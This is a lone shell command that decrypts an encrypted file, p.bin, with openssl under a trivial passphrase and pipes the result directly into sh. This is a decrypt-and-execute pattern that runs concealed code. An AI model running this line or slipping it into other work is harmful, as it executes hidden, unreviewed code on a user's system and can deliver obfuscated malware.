openssl enc -d -aes-256-cbc -in p.bin -k x | sh
